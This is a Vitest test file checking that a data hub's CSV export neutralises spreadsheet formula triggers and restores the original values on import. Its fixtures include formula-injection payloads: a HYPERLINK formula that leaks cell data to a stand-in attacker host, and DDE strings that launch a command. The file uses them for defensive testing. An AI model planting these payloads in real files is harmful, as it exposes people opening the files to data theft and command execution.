import { describe, expect, it } from 'vitest';
import { formatCsv, neutraliseCell, parseCsv, restoreCell } from '../scripts/hub/csv.js';
import { exportAsCsv, exportAsJson, type ExportResult } from '../scripts/hub/export.js';
import { parseSource } from '../scripts/hub/source.js';

/** OWASP's list of what makes a spreadsheet evaluate a cell. */
const TRIGGERS: [string, string][] = [
  ['=', '=HYPERLINK("https://evil.example/?"&A1,"Details")'],
  ['+', '+49 6221 141013'],
  ['-', '-2+3+cmd|\' /C calc\'!A0'],
  ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
];

describe('neutralising cells a spreadsheet would evaluate', () => {
  it.each(TRIGGERS)('prefixes a cell starting with %s with a single quote, and restores it exactly', (_what, value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
    expect(restoreCell(neutraliseCell(value))).toBe(value);
  });

  it('prefixes a cell that already starts with a quote, so its own quote survives the round trip', () => {
    for (const value of ['\'s Bündnis', '\'=1+1', '\'\'', '\'']) {
      expect(neutraliseCell(value)).toBe(`'${value}`);
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
  });

  it('leaves every other cell as it is, both ways', () => {
    for (const value of ['', 'Bündnis für Familie', ' =1+1', 'a=b', 'Familie - Beruf', '2005-11', '06221 141013', 'x@example.org', '\n=1', 'ä']) {
      expect(neutraliseCell(value)).toBe(value);
      expect(restoreCell(value)).toBe(value);
    }
  });

  it('restores only what it would have written: a quote before anything else is the cell\'s own text', () => {
    expect(restoreCell('\'s Gravenhage')).toBe('\'s Gravenhage');
    expect(restoreCell('\'')).toBe('\'');
    expect(restoreCell('\'\'s')).toBe('\'s');
    expect(restoreCell('\'-5')).toBe('-5');
  });

  it('treats a number like any text: "-5" and "+5" are written with the quote too, and read back unchanged', () => {
    // Every exported column is text; a phone number "+49 …" in Excel would be a formula, not a number.
    for (const value of ['-5', '+5', '-0.5', '-1e3']) {
      expect(neutraliseCell(value)).toBe(`'${value}`);
      expect(parseCsv(formatCsv([['value'], [value]])).records[1].cells).toEqual([value]);
    }
  });
});

describe('the CSV writer and reader', () => {
  const rows = [
    ['name', 'goals'],
    ...TRIGGERS.map(([what, value]) => [value, what]),
    ['\'s Bündnis', '\'\'doppelt'],
    ['Bündnis "Familie", Köln; Bonn', 'zwei\nZeilen'],
    ['-', '@'],
  ];

  it('quotes every neutralised cell and starts no cell with a trigger, in both forms', () => {
    for (const text of [formatCsv(rows), formatCsv(rows, { delimiter: ';', bom: true })]) {
      expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1,""Details"")"');
      expect(text).toContain('"\'+49 6221 141013"');
      expect(text).toContain('"\'\t=1+1"');
      expect(text).toContain('"\'\r=1+1"');
      expect(text).toContain('"\'\'s Bündnis"');
      expect(text).toContain('"\'-"');
      // What a spreadsheet sees as each cell's first character: never a trigger.
      const naive = parseCsv(text.replace(/'/g, '§')).records.flatMap((r) => r.cells);
      expect(naive.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
  });

  it('quotes a cell holding another delimiter than the file\'s, so no part of it becomes a cell of its own', () => {
    expect(formatCsv([['a,=1+1', 'b;=1+1', 'c\t=1+1']], { delimiter: ';' })).toBe('"a,=1+1";"b;=1+1";"c\t=1+1"\r\n');
    expect(formatCsv([['a,=1+1', 'b;=1+1']])).toBe('"a,=1+1","b;=1+1"\r\n');
  });

  it('reads back exactly what it wrote, in both forms', () => {
    expect(parseCsv(formatCsv(rows)).records.map((r) => r.cells)).toEqual(rows);
    expect(parseCsv(formatCsv(rows, { delimiter: ';', bom: true })).records.map((r) => r.cells)).toEqual(rows);
  });

  it('restores a neutralised cell a spreadsheet saved again without the quotes', () => {
    expect(parseCsv('name\n\'=1+1\n\'\'s\n').records.map((r) => r.cells)).toEqual([['name'], ['=1+1'], ['\'s']]);
  });
});

describe('export and import of alliances with formula-like names', () => {
  const result: ExportResult = {
    columns: ['region', 'name', 'goals', 'fieldsOfAction'],
    rows: [
      { region: 'SL', name: '=HYPERLINK("https://evil.example","klick")', goals: '-Kinderbetreuung\n-Pflege', fieldsOfAction: ['CHILDCARE', 'CARE'] },
      { region: 'SL', name: '\'s Bündnis', goals: '@Familie', fieldsOfAction: [] },
      { region: 'SL', name: '+Bündnis', goals: null, fieldsOfAction: null },
    ],
  };

  it('writes the CSV and Excel\'s form neutralised, and the importer reads back the original values', () => {
    for (const csv of [exportAsCsv(result), exportAsCsv(result, { delimiter: ';', bom: true })]) {
      expect(csv).toContain('"\'=HYPERLINK(""https://evil.example"",""klick"")"');
      expect(csv).toContain('"\'-Kinderbetreuung\n-Pflege"');
      const source = parseSource('alliances', csv, 'csv');
      expect(source.problems).toEqual([]);
      expect(source.rows.map((r) => [r.region, r.values.name, r.values.goals])).toEqual(result.rows.map((r) => [r.region, r.name, r.goals]));
    }
  });

  it('leaves JSON as it is, and the JSON importer takes it as it is', () => {
    const json = exportAsJson(result);
    expect(JSON.parse(json)[0].name).toBe('=HYPERLINK("https://evil.example","klick")');
    expect(parseSource('alliances', json, 'json').rows.map((r) => r.values.name)).toEqual(result.rows.map((r) => r.name));
    // A JSON string starting with a quote is not unescaped: only CSV cells carry the mark.
    expect(parseSource('alliances', '[{"region":"SL","name":"\'\'s"}]', 'json').rows[0].values.name).toBe('\'\'s');
  });
});
